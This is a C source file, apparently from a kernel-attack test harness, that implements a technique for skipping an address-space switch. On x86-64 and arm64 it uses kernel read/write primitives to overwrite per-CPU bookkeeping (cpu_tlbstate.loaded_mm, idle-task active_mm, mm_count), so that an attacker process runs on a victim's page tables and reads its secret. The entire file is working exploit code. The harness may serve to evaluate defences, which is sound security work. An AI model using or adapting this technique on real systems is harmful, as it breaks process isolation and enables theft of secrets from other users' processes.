// SPDX-License-Identifier: GPL-2.0-only
/*
 * A CPU loads no root where it believes that it has the right one: on x86-64 because
 * cpu_tlbstate.loaded_mm says so, on arm64 because the task before has the same
 * active_mm. Both are ordinary memory. While a CPU rests on the victim's tables it is
 * told that they are the attacker's, who runs on them then and writes the secret down.
 */
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "looker.h"
#include "objects.h"

#define OTHER_CPU	1
#define TRIES		40
#define MOMENTS		1000		/* to find the victim there */
#define LOOK_TIME	200		/* milliseconds */
#define REFERENCES	1000

/* Nothing else runs where the victim does not run. */
static pid_t start_hog(void)
{
	pid_t pid = fork();

	if (pid)
		return pid;
	stay_on_cpu(0);
	for (;;)
		;
}

#ifdef __x86_64__
#define LOADED		"cpu_tlbstate"		/* begins with loaded_mm */
#define LAZY		"cpu_tlbstate_shared"	/* begins with is_lazy */

static uint64_t find_loaded(const struct task *looker)
{
	(void)looker;
	return ksymbol_cpu(LOADED, OTHER_CPU);
}

static int pretend(uint64_t loaded, uint64_t mm)
{
	const char zero = 0;

	return kwrite(ksymbol_cpu(LAZY, OTHER_CPU), &zero, sizeof(zero)) ?: kwrite64(loaded, mm);
}
#else
#define IDLE		"idle_threads"
#define TASK_SIZE	4096			/* as much of it as has the two words */

/* active_mm of the idle task comes behind its mm. */
static uint64_t find_loaded(const struct task *looker)
{
	uint64_t at = find_word(looker->task, TASK_SIZE, looker->mm);

	if (!at)
		return 0;
	return kread64(ksymbol_cpu(IDLE, OTHER_CPU)) + at - looker->task + sizeof(at);
}

/* Whoever rested on it gives it back: mm_count is what an mm begins with. */
static int pretend(uint64_t loaded, uint64_t mm)
{
	int count;

	if (kread(mm, &count, sizeof(count)))
		return -1;
	count += REFERENCES;
	return kwrite(mm, &count, sizeof(count)) ?: kwrite64(loaded, mm);
}
#endif

enum outcome switch_skipped(void)
{
	struct pollfd input = { .events = POLLIN };
	struct task victim, looker;
	char text[SECRET_SIZE] = "";
	uint64_t loaded;
	int i, err = 0, seen = 0;
	pid_t pid, hog;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(OTHER_CPU);
	pid = looker_start(&input.fd);
	stay_on_cpu(0);
	hog = start_hog();
	if (pid < 0 || hog < 0 || ktask(pid, &looker) || ktask(victim_pid(), &victim))
		return broken("no mm found");
	loaded = find_loaded(&looker);
	if (!loaded)
		return broken("no place that says what is loaded");
	for (i = 0; i < MOMENTS && seen < TRIES && !text[0]; i++) {
		judge_secret("", 0);	/* so that it runs, and sleeps then */
		usleep(3000);
		if (kread64(loaded) != victim.mm)
			continue;
		seen++;
		err = pretend(loaded, looker.mm);
		if (poll(&input, 1, LOOK_TIME) == 1 && read(input.fd, text, sizeof(text)) < 0)
			err = -1;
	}
	kill(pid, SIGKILL);
	kill(hog, SIGKILL);
	waitpid(pid, NULL, 0);
	waitpid(hog, NULL, 0);
	if (!seen)
		return broken("the victim did not run there");
	return judge_secret(text, err);
}
